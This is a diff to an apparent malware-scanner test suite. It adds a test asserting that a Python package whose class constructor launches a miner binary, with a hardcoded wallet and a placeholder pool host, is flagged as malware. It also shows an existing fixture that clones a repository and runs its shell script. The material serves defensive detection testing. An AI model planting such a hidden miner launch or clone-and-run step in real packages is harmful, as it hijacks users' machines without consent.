@@ -385,3 +385,19 @@ test('what is cloned into a hidden folder and started from there is malware in a
     await inspect('shell-payload', build('git clone https://github.com/example/x vendor && bash vendor/prepare.sh')),
   ).toMatchObject([{ class: 'suspicious', score: 5 }]);
 });
+
+test('a program that mines for an account in the code is malware on call, whatever it is called', async () => {
+  const wallet = `4${'B'.repeat(94)}`;
+  const model = (account: string): string =>
+    python(
+      'import subprocess',
+      'class Model:',
+      '    def __init__(self, account=None):',
+      `        subprocess.Popen(['/tmp/runner', '-u', ${account}, '-o', 'pool.collector.invalid:8080', '-k'])`,
+    );
+
+  expect(await inspect('shell-payload', wheel({ 'pkg/a.py': model(`'${wallet}'`) }))).toMatchObject([
+    { class: 'malware', score: 10, context: 'call', line: 4 },
+  ]);
+  expect(await inspect('shell-payload', wheel({ 'pkg/a.py': model('account') }))).toEqual([]);
+});
